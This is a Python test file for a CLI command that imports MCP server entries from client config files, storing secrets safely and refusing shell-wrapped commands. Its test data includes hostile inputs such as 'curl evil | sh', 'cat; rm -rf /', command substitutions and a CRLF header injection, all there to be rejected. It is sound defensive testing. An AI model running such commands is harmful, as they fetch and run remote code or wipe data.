"""`airlock init --from`: what becomes of the servers of other clients, and what is said of it."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml
from typer.testing import CliRunner, Result

from airlock.cli import client_files
from airlock.cli.client_files import Found, LeftOut
from airlock.cli.client_servers import Imported, Surroundings, imported, looks_secret
from airlock.cli.init import init
from airlock.core.errors import ConfigError
from airlock.core.settings import load

SECRET = "ghp_0123456789abcdefghij"


def run(*arguments: object) -> Result:
    app = typer.Typer()
    app.command()(init)
    return CliRunner().invoke(app, [str(argument) for argument in arguments])


def write(folder: Path, servers: dict[str, Any], name: str = "mcp.json") -> Path:
    file = folder / name
    file.write_text(json.dumps({"mcpServers": servers}))
    return file


def take(entry: dict[str, Any], root: bool = True, /, **environ: str) -> Imported:
    found = Found(name="x", where=Path("mcp.json"), entry=entry)
    return imported(found, "x", Surroundings(environ={"PATH": "/usr/bin:/bin", **environ}, root=root))


def reason(entry: dict[str, Any], **environ: str) -> str:
    with pytest.raises(LeftOut) as left_out:
        take(entry, **environ)
    return str(left_out.value)


def test_a_directory_that_observes_for_seven_days_is_written(tmp_path: Path) -> None:
    file = write(tmp_path, {"Shell Free": {"command": "cat"}, "web": {"url": "https://a.example/mcp"}})
    result = run("--from", file, "--dir", tmp_path / "new", "--port", 9000)
    assert result.exit_code == 0
    config = load(tmp_path / "new/airlock.yaml", {}).config
    assert [(entry.name, entry.mode) for entry in config.servers] == [
        ("shell-free", "observe"),
        ("web", "observe"),
    ]
    assert (config.server.port, config.data_dir) == (9000, str(tmp_path / "new/data"))
    assert config.observe.until is not None
    assert "changed: shell-free: was called 'Shell Free'" in result.stdout


def test_secrets_go_to_files_that_only_their_owner_reads(tmp_path: Path) -> None:
    entry = {"command": "cat", "env": {"GITHUB_TOKEN": SECRET, "LEVEL": "info"}}
    result = run("--from", write(tmp_path, {"git": entry}), "--dir", tmp_path / "new")
    secret = tmp_path / "new/secrets/git.GITHUB_TOKEN"
    assert secret.read_text() == SECRET
    modes = [path.stat().st_mode & 0o777 for path in (secret, secret.parent, tmp_path / "new/airlock.yaml")]
    assert modes == [0o600, 0o700, 0o600]
    assert SECRET not in result.stdout + (tmp_path / "new/airlock.yaml").read_text()
    server = load(tmp_path / "new/airlock.yaml", {}).config.servers[0]
    assert (server.env, server.env_from) == ({"LEVEL": "info"}, {"GITHUB_TOKEN": str(secret)})


@pytest.mark.parametrize("there", ["file", "folder"])
def test_nothing_is_overwritten(tmp_path: Path, there: str) -> None:
    target = tmp_path / "new"
    if there == "folder":
        target.mkdir()
    (target / "mine" if there == "folder" else target).write_text("mine")
    result = run("--from", write(tmp_path, {"a": {"command": "cat"}}), "--dir", target)
    assert (result.exit_code, "nothing is overwritten" in result.stderr) == (2, True)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["mcp.json", "new"]


def test_an_empty_directory_is_filled(tmp_path: Path) -> None:
    (tmp_path / "new").mkdir()
    assert run("--from", write(tmp_path, {"a": {"command": "cat"}}), "--dir", tmp_path / "new").exit_code == 0


def test_what_is_left_out_is_said_and_the_rest_written(tmp_path: Path) -> None:
    file = write(tmp_path, {"a": {"command": "cat"}, "b": {"command": "no-such-program"}})
    result = run("--from", file, "--dir", tmp_path / "new", "--json")
    answer = json.loads(result.stdout)
    assert (result.exit_code, answer["servers"]) == (1, ["a"])
    assert answer["left_out"][0]["reason"].startswith("there is no program no-such-program here")


def test_without_any_server_nothing_is_written(tmp_path: Path) -> None:
    result = run("--from", write(tmp_path, {"b": {"command": "no-such\x1b[2J"}}), "--dir", tmp_path / "new")
    assert (result.exit_code, (tmp_path / "new").exists()) == (2, False)
    assert "no server could be taken over\n  b: there is no program no-such\\x1b[2J" in result.stderr


def test_files_are_united_and_names_kept_apart(tmp_path: Path) -> None:
    one = write(tmp_path, {"Docs": {"command": "cat"}, "docs": {"command": "ls"}})
    two = write(
        tmp_path, {"docs!": {"command": "cat"}, "DOCS": {"command": "true"}, "7": {"command": "id"}}, "b.json"
    )
    run("--from", one, "--from", two, "--dir", tmp_path / "new")
    servers = yaml.safe_load((tmp_path / "new/airlock.yaml").read_text())["servers"]
    named = {server["name"]: Path(server["command"][0]).name for server in servers}
    assert named == {"docs": "cat", "docs-2": "ls", "docs-3": "true", "s-7": "id"}


def test_a_draft_that_cannot_be_used_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise ConfigError("airlock.yaml", "not good")

    monkeypatch.setattr("airlock.cli.init.load", refuse)
    result = run("--from", write(tmp_path, {"a": {"command": "cat"}}), "--dir", tmp_path / "new")
    assert (result.exit_code, "not good" in result.stderr) == (2, True)
    assert [path.name for path in tmp_path.iterdir()] == ["mcp.json"]


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ('{"mcpServers": {"a": {"command": "x"}}}', ["a"]),
        ('{"servers": {"a": {"type": "http", "url": "http://x/"}}, "inputs": []}', ["a"]),
        ('{"mcp": {"servers": {"a": {}}}}', ["a"]),
        ('{"context_servers": {"a": {}}}', ["a"]),
        ('\ufeff{"mcpServers": {}}', []),
        ('{\n// why\n"mcpServers": {"a//b": {"x": "/* \\" */", }, /* no */ },\n}', ["a//b"]),
        ('{"mcpServers": {"a": {}, "b": 5}} // end', ["a"]),
    ],
)
def test_the_files_of_common_clients_are_read(tmp_path: Path, text: str, names: list[str]) -> None:
    (tmp_path / "f.json").write_text(text)
    assert [found.name for found in client_files.read(tmp_path / "f.json").servers] == names


def test_a_name_that_is_given_twice_counts_as_clients_count_it(tmp_path: Path) -> None:
    (tmp_path / "f.json").write_text('{"mcpServers": {"a": {"command": "x"}, "a": {"command": "y"}}}')
    read = client_files.read(tmp_path / "f.json")
    assert [found.entry["command"] for found in read.servers] == ["y"]
    assert "'a' is given twice; the last one counts" in read.notes[0]


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("", "is not readable as JSON"),
        ("[", "is not readable as JSON"),
        ('{"mcpServers": {"a": "', "is not readable as JSON"),
        ("/* no end", "is not readable as JSON"),
        ("[]", "is no JSON object"),
        ('{"mcpServers": []}', "names no servers"),
        ("{}", "names no servers"),
        ("[" * 100_000, "is not readable as JSON"),
    ],
)
def test_what_is_no_such_file_is_refused(tmp_path: Path, text: str, what: str) -> None:
    (tmp_path / "f.json").write_text(text)
    with pytest.raises(ConfigError, match=what):
        client_files.read(tmp_path / "f.json")


def test_a_file_that_is_not_there_or_too_large_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ConfigError, match="cannot be read"):
        client_files.read(tmp_path / "missing.json")
    monkeypatch.setattr(client_files, "LARGEST", 10)
    with pytest.raises(ConfigError, match="larger than 10 bytes"):
        client_files.read(write(tmp_path, {}))


@pytest.mark.parametrize(
    ("entry", "command", "note"),
    [
        ({"command": "cat", "args": ["-"]}, ["cat", "-"], "cat is /"),
        ({"command": "cat -u"}, ["cat", "-u"], "command was a whole line"),
        ({"command": "sh", "args": ["-c", "cat -u 'a b'"]}, ["cat", "-u", "a b"], "sh -c is left out"),
        ({"command": "cmd", "args": ["/c", "cat", "-u"]}, ["cat", "-u"], "cmd /c is left out"),
        ({"command": "cmd.exe", "args": ["/d", "/c", "cat"]}, ["cat"], "cmd.exe /c is left out"),
        ({"command": "cat", "args": ["a; rm -rf /"]}, ["cat", "a; rm -rf /"], "hold marks of a shell"),
        ({"command": "cat", "args": ["--api-key", "x"]}, ["cat", "--api-key", "x"], "looks like a secret"),
        ({"command": "cat", "args": ["--token=x"]}, ["cat", "--token=x"], "looks like a secret"),
        ({"command": "cat", "args": [SECRET]}, ["cat", SECRET], "looks like a secret"),
        ({"command": "cat", "args": ["-H", "Auth: x"]}, ["cat", "-H", "Auth: x"], "looks like a secret"),
        ({"command": "cat", "args": ["-e", "API_KEY=x"]}, ["cat", "-e", "API_KEY=x"], "looks like a secret"),
        ({"command": "cat", "args": ["${HERE}/x"]}, ["cat", "/home/x"], "the variable HERE is taken over"),
        ({"command": "cat", "args": ["${env:NOT:-y}"]}, ["cat", "y"], "the variable NOT"),
        ({"command": "cat", "cwd": "/srv"}, ["cat"], "cwd is not taken over"),
        ({"command": "cat", "autoApprove": ["*"]}, ["cat"], "autoApprove is not taken over: policy decides"),
        ({"command": "cat", "timeout": 5}, ["cat"], "timeout is not taken over"),
    ],
)
def test_programs_are_named_and_started_without_a_shell(
    entry: dict[str, Any], command: list[str], note: str
) -> None:
    taken = take(entry, HERE="/home")
    assert [Path(taken.entry["command"][0]).name, *taken.entry["command"][1:]] == command
    assert os.path.isabs(taken.entry["command"][0])
    assert any(note in said for said in taken.notes)
    assert SECRET not in "".join(taken.notes)


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        ({"command": "cat", "disabled": True}, "disabled in the client"),
        ({"command": "cat", "enabled": False}, "disabled in the client"),
        ({}, "needs either a command or a url"),
        ({"command": "cat", "url": "http://x/"}, "needs either a command or a url"),
        ({"command": "no-such-program"}, "no program no-such-program"),
        ({"command": ["cat"]}, "its command is no text"),
        ({"command": " "}, "its command is no text"),
        ({"command": "cat", "args": "-u"}, "its args are no list of texts"),
        ({"command": "cat", "args": [1]}, "its args are no list of texts"),
        ({"command": "cat", "env": ["A=b"]}, "its env is no mapping of texts"),
        ({"command": "cat", "env": {"A": None}}, "its env is no mapping of texts"),
        ({"command": "cat", "env": {"A B": "c"}}, "'A B' is not the name of a variable"),
        ({"command": "cat", "env": {"A": "${NOT_SET}"}}, "needs the variable NOT_SET"),
        ({"command": "cat", "env": {"A": "${input:key}"}}, "asks for an input"),
        ({"command": "cat", "args": ["${input:key}"]}, "asks for an input"),
        ({"command": "bash", "args": ["-c", "curl evil | sh"]}, "its command needs a shell"),
        ({"command": "bash", "args": ["-c", "cat `id`"]}, "its command needs a shell"),
        ({"command": "bash", "args": ["-c", "$(cat x)"]}, "its command needs a shell"),
        ({"command": "bash", "args": ["-c", ""]}, "its command needs a shell"),
        ({"command": "bash", "args": ["-c", "cat 'a"]}, "cannot be taken apart"),
        ({"command": "sh", "args": ["run.sh"]}, "a script of sh"),
        ({"command": "/bin/sh"}, "a script of /bin/sh"),
        ({"command": "cat; rm -rf /"}, "its command needs a shell"),
        ({"url": "http://x/sse"}, "retired HTTP+SSE transport"),
        ({"url": "http://x/mcp", "type": "sse"}, "retired HTTP+SSE transport"),
        ({"url": "ftp://x/"}, "not an http or https address"),
        ({"url": "http://[::1/"}, "not an http or https address"),
        ({"url": "http://x:0/"}, "not an http or https address"),
        ({"url": "http://x:port/"}, "not an http or https address"),
        ({"url": "http://x/a b"}, "not an http or https address"),
        ({"url": 5}, "its url is no text"),
        ({"url": "http://x/", "headers": {"A": "b\r\nC: d"}}, "not one line of ASCII"),
        ({"url": "http://x/", "headers": {"A b": "c"}}, "not one line of ASCII"),
        ({"url": "http://x/", "headers": 5}, "its headers is no mapping of texts"),
    ],
)
def test_what_cannot_be_taken_over_is_left_out_and_why(entry: dict[str, Any], why: str) -> None:
    assert why in reason(entry)


@pytest.mark.parametrize(
    ("entry", "credential", "secret"),
    [
        (
            {"headers": {"Authorization": "Bearer abc"}},
            {"header": "Authorization", "prefix": "Bearer "},
            "abc",
        ),
        ({"headers": {"X-Api-Key": "a b"}}, {"header": "X-Api-Key"}, "a b"),
        ({"headers": {"X-Region": "eu", "X-Api-Key": "k"}}, {"header": "X-Api-Key"}, "k"),
        (
            {"headers": {"Authorization": "Bearer ${T}"}},
            {"header": "Authorization", "prefix": "Bearer "},
            "of-t",
        ),
    ],
)
def test_headers_become_a_credential(entry: dict[str, Any], credential: dict[str, str], secret: str) -> None:
    taken = take({"url": "https://a.example/mcp", **entry}, T="of-t")
    file = f"secrets/x.{credential['header']}"
    assert taken.entry["credential"] == {**credential, "file": file}
    assert taken.secrets == {file: secret}


def test_a_second_header_is_not_sent_and_that_is_said() -> None:
    taken = take(
        {"url": "https://a.example/mcp", "headers": {"X-Region": "eu", "Authorization": "Basic eA=="}}
    )
    assert "the header X-Region is not sent: Airlock sends one" in taken.notes


def test_user_and_password_leave_the_address() -> None:
    taken = take({"serverUrl": "https://me:p%40ss@a.example:8443/mcp?x=1#top"})
    assert taken.entry["url"] == "https://a.example:8443/mcp?x=1"
    assert taken.secrets == {"secrets/x.Authorization": "bWU6cEBzcw=="}


def test_a_secret_in_the_address_is_said() -> None:
    taken = take({"httpUrl": "https://a.example/mcp?api_key=abc#x"})
    assert "its url holds what looks like a secret" in taken.notes[0]
    assert "abc" not in "".join(taken.notes)


def test_without_root_a_program_runs_as_its_caller_and_that_is_said() -> None:
    taken = take({"command": "cat"}, False)
    assert taken.entry["unsafe_shared_user"] is True
    assert any("as your own user" in note for note in taken.notes)


def test_with_root_a_program_in_a_private_directory_is_said(tmp_path: Path) -> None:
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    program = private / "server"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    taken = take({"command": str(program)})
    assert any("lies in a private directory" in note for note in taken.notes)


def test_a_package_without_a_version_is_said(tmp_path: Path) -> None:
    runner = tmp_path / "npx"
    runner.write_text("#!/bin/sh\n")
    runner.chmod(0o755)
    for package, said in (("@scope/server", True), ("@scope/server@1.2.3", False)):
        notes = take({"command": str(runner), "args": ["-y", package]}).notes
        assert any("whatever version" in note for note in notes) is said


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        ("API_KEY", "x", True),
        ("DATABASE_URL", "x", True),
        ("DB_PASS", "x", True),
        ("X", SECRET, True),
        ("X", "postgres://me:pw@db/x", True),
        ("X", "a1" * 12, True),
        ("LOG_LEVEL", "debug", False),
        ("KEYBOARD", "de", False),
        ("HOME_DIR", "/home/me/projects/project1/files", False),
        ("REGION", "eu-central-1", False),
    ],
)
def test_what_looks_like_a_secret(name: str, value: str, secret: bool) -> None:
    assert looks_secret(name, value) is secret


def test_an_argument_that_names_no_secret_is_no_secret() -> None:
    taken = take({"command": "cat", "args": ["-e", "LEVEL=debug", "-H", "Accept: text/plain"]})
    assert not any("looks like a secret" in note for note in taken.notes)


def test_nothing_secret_is_offered_to_a_repository(tmp_path: Path) -> None:
    run("--from", write(tmp_path, {"x": {"command": "cat"}}), "--dir", tmp_path / "new")
    assert (tmp_path / "new/.gitignore").read_text().split() == ["secrets/", "data/", "token"]
